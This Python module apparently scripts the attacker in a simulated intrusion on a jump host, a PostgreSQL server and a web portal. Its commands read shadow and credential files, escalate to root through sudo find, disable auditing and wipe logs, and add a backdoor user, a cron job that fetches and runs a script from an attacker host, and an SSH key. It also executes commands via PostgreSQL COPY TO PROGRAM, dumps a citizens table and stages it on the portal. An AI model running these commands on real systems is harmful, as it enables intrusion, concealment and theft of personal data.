"""What the attacker does once inside: one interactive session on the jump host, and from there the database and the portal."""

from __future__ import annotations

import random
import subprocess
from datetime import timedelta

from actors import Terminal, with_key
from centre import ATTACKER, JUMP, PASSWORDS, PORTAL, Centre
from hosts import enter

VICTIM = "tuan.hs"
STAGED = "bieu-mau/.cache/ct.csv"
"""Where the copied table lies on the portal, below its web root."""
PSQL = "psql -Xqt -h db-01"
STOLEN = f"PGPASSFILE=/home/hai.lv/.pgpass {PSQL} -U hai_dba"


class Intruder:
    """The session; every command is typed at a person's pace on the false clock."""

    def __init__(self, centre: Centre) -> None:
        self.centre = centre
        self.random = random.Random(66)
        self._terminal: Terminal | None = None

    @property
    def terminal(self) -> Terminal:
        """The open session, after some seconds of thought."""
        assert self._terminal, "not logged in yet"
        self.centre.clock.step_to(self.centre.clock.now() + timedelta(seconds=self.random.uniform(3, 14)))
        return self._terminal

    def _say(self, *commands: str) -> None:
        for command in commands:
            self.terminal.say(command)

    def log_in(self) -> None:
        self._terminal = Terminal("attacker", ATTACKER, f"{VICTIM}@{JUMP}", password=PASSWORDS[VICTIM])

    def look_around(self) -> None:
        self._say("id", "uname -a", "cat /etc/passwd")
        for command in ("-l", "cat /etc/shadow", "su -", "-u hai.lv cat /home/hai.lv/.pgpass"):
            self.terminal.sudo(PASSWORDS[VICTIM], command)
        self._say("printf 'toor\\nroot\\n123456\\n' | sudo -S -p '' -i")

    def escape(self) -> None:
        find = "sudo find /srv/exchange -maxdepth 0 -exec"
        self._say(f"{find} /bin/sh -c 'id; cp /bin/bash /tmp/.x; chmod 4755 /tmp/.x' \\;")
        self.terminal.open_shell(f"{find} /bin/bash -p \\;")

    def blind(self) -> None:
        self._say("sudo systemctl stop auditd 2>/dev/null", "sudo systemctl stop rsyslog 2>/dev/null")
        self._say("sudo truncate -s 0 /var/log/wtmp", "sudo rm -f /var/log/auth.log.1")
        self._say(f"sudo shred -u /home/{VICTIM}/.bash_history 2>/dev/null", "history -c")

    def persist(self) -> None:
        self._say("export PATH=$PATH:/usr/sbin", "useradd -m -s /bin/bash svc-update")
        self._say(
            "echo 'svc-update:Cap-nhat-2026' | chpasswd",
            "chage -d 2026-10-01 svc-update",
            "usermod -aG sudo svc-update",
        )
        self._say(f"echo '47 * * * * curl -s http://{ATTACKER}/u | sh' | crontab -u svc-update -")
        self._say(
            "mkdir -p /root/.ssh",
            "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAKeyOfTheStory' >> /root/.ssh/authorized_keys",
        )

    def enter_database(self) -> None:
        self._say("cat /home/hai.lv/.pgpass /srv/deploy/.ssh/id_ed25519 > /dev/null")
        tries = [
            ("postgres", "postgres", "postgres"),
            ("postgres", "123456", "postgres"),
            ("backup_svc", "backup", "civil_status"),
        ]
        for user, password, database in [*tries, ("portal_app", "Cong-dvc-7", "civil_status")]:
            self._say(f"PGPASSWORD={password} {PSQL} -U {user} -d {database} -c 'SELECT current_user' 2>&1 | tail -1")
        self._dba("SELECT version()", "SELECT datname FROM pg_database", database="postgres")

    def _dba(self, *statements: str, database: str = "civil_status") -> None:
        (self.centre.jump.root / "tmp/.q.sql").write_text(";\n".join(statements) + ";\n")
        self._say(f"{STOLEN} -d {database} -f /tmp/.q.sql 2>&1 | tail -40")

    def abuse_database(self) -> None:
        self._dba("SELECT usename, passwd FROM pg_shadow")
        self._dba("SELECT pg_read_file('/etc/passwd')")
        self._dba("COPY (SELECT 1) TO PROGRAM 'id > /tmp/.o; uname -a >> /tmp/.o'")
        self._dba("CREATE TEMP TABLE o (l text)", "COPY o FROM PROGRAM 'cat /tmp/.o'", "SELECT * FROM o")
        self._dba("SELECT lo_import('/etc/passwd')")
        self._dba("CREATE ROLE svc_report SUPERUSER LOGIN PASSWORD 'Bao-cao-9'")
        self._dba("ALTER SYSTEM SET log_statement = 'none'", "ALTER SYSTEM SET log_connections = off")
        self._dba("TRUNCATE audit_trail", database="portal")

    def copy_citizens(self) -> None:
        self._say(f'{STOLEN} -d civil_status -c "COPY citizens TO STDOUT WITH (FORMAT csv)" > /tmp/.c.csv')
        self._say("ls -l /tmp")

    def stage(self) -> None:
        key, folder = self.centre.keys / "deploy", "/srv/portal/static/bieu-mau/.cache"
        with_key("jump-01", JUMP, f"deploy@{PORTAL}", key, f"mkdir -p {folder}; sudo -n -l")
        copy = self.centre.jump.root / "tmp/.c.csv"
        unasked = ("-F", "none", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null")
        argv = [
            *enter("jump-01"),
            "scp",
            "-q",
            *unasked,
            "-i",
            str(key),
            str(copy),
            f"deploy@{PORTAL}:/srv/portal/static/{STAGED}",
        ]
        subprocess.run(argv, capture_output=True, timeout=60, check=True)

    def leave(self) -> None:
        self._say("rm -f /tmp/.c.csv /tmp/.q.sql")
        self.terminal.leave(shells=2)
